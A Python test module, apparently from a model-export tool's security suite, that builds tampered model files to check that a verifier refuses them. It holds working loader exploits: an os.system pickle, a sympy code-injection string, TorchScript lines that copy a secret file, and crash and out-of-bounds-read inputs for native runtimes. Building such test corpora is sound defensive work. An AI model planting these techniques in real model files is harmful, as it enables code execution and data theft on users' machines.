"""The hostile corpus: each function takes a good artifact (an export from the session cache, read-only) and
writes a copy with one attack built in, in ``folder``, aimed at a :class:`Bait`.

Every attack here was first tried against the runtime's own loader, with no project code in between, in a
throwaway process (torch 2.13, OpenVINO 2026.4, ExecuTorch 1.5.1, ai-edge-litert 2.3): what each did there is
in its docstring. That is what makes a refusal or a containment by ``rvm-verify`` meaningful."""

import hashlib
import json
import re
import shutil
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Callable, Iterable, Tuple

Entries = Iterable[Tuple[str, bytes]]


@dataclass(frozen=True)
class Bait:
    """What an attack aims at: a secret outside every artifact's folder, and where its payload writes."""

    secret: Path  # random content, made by the test; no byte of it may end up anywhere else
    marker: Path  # a payload writes (or copies the secret) here; it must never exist


def rezip(source: Path, path: Path, edit: Callable[[str, bytes], Entries]) -> Path:
    """A copy of the zip archive ``source`` at ``path``: each entry (its name without the archive's top folder)
    becomes the entries ``edit(name, data)`` yields, under the same top folder."""
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w") as out:
        for entry in original.infolist():
            top, name = entry.filename.split("/", 1)
            for new_name, data in edit(name, original.read(entry)):
                out.writestr(f"{top}/{new_name}", data)
    return path


def os_system_pickle(command: str) -> bytes:
    """A pickle whose unpickling calls ``os.system(command)`` (GLOBAL 'os system', protocol 2)."""
    raw = command.encode()
    return b"\x80\x02cos\nsystem\nX" + len(raw).to_bytes(4, "little") + raw + b"\x85R."


# --- torch.export (.pt2) ----------------------------------------------------------------------------------------


def pt2_sample_inputs_renamed(good: Path, folder: Path, bait: Bait) -> Path:
    """``data/sample_inputs/model.pt`` stored as ``data/SAMPLE_INPUTS/model.PT``, an ``os.system`` pickle.

    Bare ``torch.export.load``: torch's zip reader finds the entry case-insensitively, the ``weights_only=True``
    load fails, torch retries with ``weights_only=False`` and the marker is written (then the load fails)."""

    def edit(name: str, data: bytes) -> Entries:
        if name == "data/sample_inputs/model.pt":
            return [("data/SAMPLE_INPUTS/model.PT", os_system_pickle(f"touch {bait.marker}"))]
        return [(name, data)]

    return rezip(good, folder / "sample_inputs.pt2", edit)


def pt2_second_program_sympy(good: Path, folder: Path, bait: Bait) -> Path:
    """A second program ``models/x.JSON`` (a copy of ``models/model.json``, with ``x``'s sample inputs and weight
    and constant configs) whose first ``expr_str`` is ``__import__('os').system(...)``.

    Bare ``torch.export.load``: it loads every ``models/*`` entry, strips five characters of suffix whatever
    their case, and hands each ``expr_str`` to ``sympy.sympify``: the marker is written (then the load fails)."""
    evil = json.dumps(f"__import__('os').system('touch {bait.marker}')")
    copies = {
        "models/model.json": "models/x.JSON",
        "data/sample_inputs/model.pt": "data/sample_inputs/x.pt",
        "data/weights/model_weights_config.json": "data/weights/x_weights_config.json",
        "data/constants/model_constants_config.json": "data/constants/x_constants_config.json",
    }

    def edit(name: str, data: bytes) -> Entries:
        yield name, data
        if name == "models/model.json":
            program, count = re.subn(rb'"expr_str": ?"[^"]*"', b'"expr_str": ' + evil.encode(), data, count=1)
            assert count == 1, "no expr_str in the program"
            yield copies[name], program
        elif name in copies:
            yield copies[name], data

    return rezip(good, folder / "second_program.pt2", edit)


# --- TorchScript ----------------------------------------------------------------------------------------------

NETWORK = "code/__torch__/model/network.py"  # MattingNetwork's code in our TorchScript export


def _copying_forward(code: bytes, bait: Bait) -> bytes:
    """``code`` (network.py) with lines right after ``forward``'s signature that copy the secret to the marker
    through a shared ``from_file`` and ``copy_``, and keep the result alive in ``src``."""
    size = bait.secret.stat().st_size
    lines = (
        f'    _p = torch.from_file("{bait.secret}", False, {size}, dtype=0)\n'
        f'    _q = torch.from_file("{bait.marker}", True, {size}, dtype=0)\n'
        "    _r = torch.copy_(_q, _p)\n"
        "    src = torch.add(src, torch.mul(torch.sum(_r), 0))\n"
    )
    signature = re.compile(r"(  def forward\(self.*?\) -> [^\n]*:\n)", re.S)
    text, count = signature.subn(lambda m: m.group(1) + lines, code.decode(), count=1)
    assert count == 1, "no forward in network.py"
    return text.encode()


def torchscript_network_uppercase(good: Path, folder: Path, bait: Bait) -> Path:
    """``network.py`` with a forward that copies the secret, stored as ``network.PY`` (its ``.debug_pkl`` left
    out). Bare ``torch.jit.load`` + one forward: the loader finds the code anyway, the marker is a byte-for-byte
    copy of the secret."""

    def edit(name: str, data: bytes) -> Entries:
        if name == NETWORK:
            return [(NETWORK[: -len(".py")] + ".PY", _copying_forward(data, bait))]
        return [] if name == NETWORK + ".debug_pkl" else [(name, data)]

    return rezip(good, folder / "network_uppercase.torchscript", edit)


def torchscript_code_uppercase(good: Path, folder: Path, bait: Bait) -> Path:
    """The same forward, and every ``code/`` entry moved to ``CODE/``: bare ``torch.jit.load`` + forward copy
    the secret all the same."""

    def edit(name: str, data: bytes) -> Entries:
        if name == NETWORK + ".debug_pkl":
            return []
        data = _copying_forward(data, bait) if name == NETWORK else data
        return [("CODE/" + name[len("code/") :] if name.startswith("code/") else name, data)]

    return rezip(good, folder / "code_uppercase.torchscript", edit)


def torchscript_pickle_global(good: Path, folder: Path, bait: Bait) -> Path:
    """``data.pkl`` replaced by an ``os.system`` pickle (docs/security.md: pickle globals). TorchScript's own
    unpickler resolves no such global, so bare ``torch.jit.load`` fails without running it: this one is about
    the inspection naming it, not about a working exploit."""

    def edit(name: str, data: bytes) -> Entries:
        return [(name, os_system_pickle(f"touch {bait.marker}") if name == "data.pkl" else data)]

    return rezip(good, folder / "pickle_global.torchscript", edit)


# --- Native runtimes: crashes and out-of-bounds reads -----------------------------------------------------------


def openvino_constant_past_the_bin(good: Path, folder: Path, bait: Bait) -> Path:
    """One 921,600-byte weight layer retyped ``Constant`` (OpenVINO's other name for ``Const``), its offset 100
    bytes before the end of the ``.bin``. Bare ``read_model`` + ``compile_model(..., "CPU")``: SIGSEGV."""
    xml = folder / good.name
    shutil.copy(good.with_suffix(".bin"), xml.with_suffix(".bin"))
    offset = good.with_suffix(".bin").stat().st_size - 100
    layer = re.compile(r'type="Const"( version="opset1">\s*<data [^>]*?) offset="\d+" size="921600"')
    text, count = layer.subn(rf'type="Constant"\1 offset="{offset}" size="921600"', good.read_text(), count=1)
    assert count == 1, "no 921600-byte Const layer"
    xml.write_text(text)
    return xml


def executorch_key_not_utf8(good: Path, folder: Path, bait: Bait) -> Path:
    """The first byte of the first constant key (a sha256 in hex) in the first XNNPACK payload made 0xFF.
    Bare ``Runtime.load_program`` + ``load_method("forward")``: XNNPACK's compiler throws a UnicodeDecodeError
    through pybind11 and the process aborts (SIGABRT)."""
    data = bytearray(good.read_bytes())
    start = data.index(b"XH00")  # the XNNPACK header of the first delegate payload
    end = data.find(b"XH00", start + 4)
    key = re.compile(rb"[0-9a-f]{64}").search(data, start, end)
    assert key is not None, "no constant key in the first XNNPACK payload"
    data[key.start()] = 0xFF
    path = folder / good.name
    path.write_bytes(bytes(data))
    return path


def litert_buffer_offset_wraps(good: Path, folder: Path, bait: Bait) -> Path:
    """The largest buffer's data removed and given ``offset = 2**64 - n``, ``size = n`` instead. Bare
    ``Interpreter`` + ``allocate_tensors``: accepted (offset + size wraps to 0), and the constant's 921,600
    bytes are read from the memory before the mapped file."""
    import flatbuffers
    from ai_edge_litert import schema_py_generated as schema

    raw = good.read_bytes()
    model = schema.ModelT.InitFromPackedBuf(raw, 0)
    buffer = max(model.buffers, key=lambda b: 0 if b.data is None else len(b.data))
    size = len(buffer.data)
    buffer.data, buffer.offset, buffer.size = None, 2**64 - size, size
    builder = flatbuffers.Builder(len(raw) + 4096)
    builder.Finish(model.Pack(builder), file_identifier=b"TFL3")
    path = folder / good.name
    path.write_bytes(bytes(builder.Output()))
    return path


# --- The metadata's checkpoint ----------------------------------------------------------------------------------


def onnx_recorded_checkpoint(good: Path, path: Path, checkpoint: str, sha256: str) -> Path:
    """The ONNX model ``good`` at ``path`` with its metadata naming ``checkpoint`` (a path, where rvm-export
    writes a file name) with ``sha256``. Before the lookup was restricted, ``rvm-verify`` hashed whatever the
    path named: ``/proc/self/pagemap`` forever, ``/proc/self/mem`` to a traceback, and a file outside the
    folder to a message that said it exists and gave 12 hex digits of its sha256."""
    import onnx

    from rvm_export.contract import METADATA_KEY

    model = onnx.load(str(good))
    entry = next(p for p in model.metadata_props if p.key == METADATA_KEY)
    metadata = json.loads(entry.value)
    metadata.update(checkpoint=checkpoint, checkpoint_sha256=sha256)
    entry.value = json.dumps(metadata)
    onnx.save(model, str(path))
    return path


def sha256_of(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- docs/security.md's classes: what the inspection refuses, end to end -----------------------------------------


def _onnx_edit(good: Path, path: Path, edit: Callable) -> Path:
    import onnx

    model = onnx.load(str(good))
    edit(model)
    path.write_bytes(model.SerializeToString())  # not onnx.save: it would write external data files
    return path


def onnx_external_data_outside(good: Path, folder: Path, bait: Bait) -> Path:
    """The largest initializer's bytes moved to a file beside the artifact's folder, named ``../...``. Bare
    ONNX Runtime refuses this itself; the inspection does too, before any runtime starts."""
    import onnx

    outside = folder.parent / f"{folder.name}-weights.bin"

    def external(model: "onnx.ModelProto") -> None:
        tensor = max(model.graph.initializer, key=lambda t: len(t.raw_data))
        outside.write_bytes(tensor.raw_data)
        size = len(tensor.raw_data)
        tensor.ClearField("raw_data")
        tensor.data_location = onnx.TensorProto.EXTERNAL
        for key, value in (("location", f"../{outside.name}"), ("offset", "0"), ("length", str(size))):
            entry = tensor.external_data.add()
            entry.key, entry.value = key, value

    return _onnx_edit(good, folder / "external_outside.onnx", external)


def onnx_custom_domain(good: Path, folder: Path, bait: Bait) -> Path:
    """A node of a custom domain (and its opset): running it needs a custom op library."""
    from onnx import helper

    def custom(model) -> None:  # noqa: ANN001
        model.opset_import.append(helper.make_opsetid("my.ops", 1))
        model.graph.node.append(helper.make_node("Exfiltrate", ["src"], ["leak"], name="evil", domain="my.ops"))

    return _onnx_edit(good, folder / "custom_domain.onnx", custom)


def coreml_custom_layer(good: None, folder: Path, bait: Bait) -> Path:
    """A NeuralNetwork model whose one layer is a custom layer (CoreML instantiates the class it names). Made by
    hand, not from an export: a CoreML conversion is the slowest export there is, and on Linux no runtime
    would instantiate the class anyway; what is checked is that the command refuses it in one line."""
    from coremltools.proto import Model_pb2

    spec = Model_pb2.Model()
    spec.specificationVersion = 4
    layer = spec.neuralNetwork.layers.add()
    layer.name = "evil"
    layer.custom.className = "MyLayerThatRunsCode"
    path = folder / "custom_layer.mlmodel"
    path.write_bytes(spec.SerializeToString())
    return path


def ncnn_custom_layer(good: Path, folder: Path, bait: Bait) -> Path:
    """The first Convolution's type renamed: a layer ncnn creates only from a custom layer the app registers."""
    param = folder / good.name
    shutil.copy(good.with_suffix(".bin"), param.with_suffix(".bin"))
    param.write_text(good.read_text().replace("\nConvolution ", "\nMyConv ", 1))
    return param


def mnn_plugin_op(good: Path, folder: Path, bait: Bait) -> Path:
    """The first Convolution (OpType 12) made a Plugin op (256): MNN runs what the app registers for it."""
    import struct

    from rvm_export.runtimes.inspection_readers import FlatbufferReader

    data = bytearray(good.read_bytes())
    reader = FlatbufferReader(bytes(data))
    ops = reader.tables(reader.u32(0), 3)
    conv = next(op for op in ops if reader.scalar("i", reader.field(op, 5)) == 12)
    struct.pack_into("<i", data, reader.field(conv, 5), 256)
    path = folder / good.name
    path.write_bytes(bytes(data))
    return path
